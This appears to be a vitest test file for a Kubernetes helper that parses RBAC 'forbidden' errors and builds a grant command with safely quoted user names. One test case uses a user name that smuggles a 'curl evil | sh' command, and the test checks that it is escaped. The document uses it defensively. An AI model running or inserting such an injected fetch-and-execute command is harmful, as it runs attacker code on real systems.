import { expect, it } from 'vitest';
import { grantOf, missingRight } from '../../../src/cluster/api/missing-right.ts';

const RIGHT = `is forbidden: User "jane" cannot patch resource "configmaps" in API group "" in the namespace "shop"`;

it.each([
  [`configmaps "a" ${RIGHT}`, 'a'],
  [`configmaps ${RIGHT}`, ''],
  [`widgets.example.com "a" ${RIGHT}`, 'a'],
])('reads the missing right of %s', (message, name) => {
  expect(missingRight(message)).toMatchObject({ user: 'jane', verb: 'patch', resource: 'configmaps', name });
});

it.each([
  `admission webhook "w.example.com" denied the request: title "x" ${RIGHT}`,
  `configmaps "a" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: x ${RIGHT}`,
  `roles.rbac.authorization.k8s.io "x\\" ${RIGHT.replaceAll('"', String.raw`\"`)}" is forbidden: no`,
])('reads no right of a refusal that quotes an object: %s', (message) => {
  expect(missingRight(message)).toBeNull();
});

it.each([
  ['jane@example.com', '--user=jane@example.com'],
  ['system:serviceaccount:ci:deployer', '--serviceaccount=ci:deployer'],
  ['Jane Doe', "'--user=Jane Doe'"],
  ["x'; curl evil | sh #", String.raw`'--user=x'\''; curl evil | sh #'`],
])('names the user %s in a command as one word', (user, word) => {
  const right = missingRight(`configmaps "a" ${RIGHT.replace('jane', () => user)}`);
  if (right === null) throw new Error('no right');
  expect(grantOf(right).endsWith(` ${word}`)).toBe(true);
});
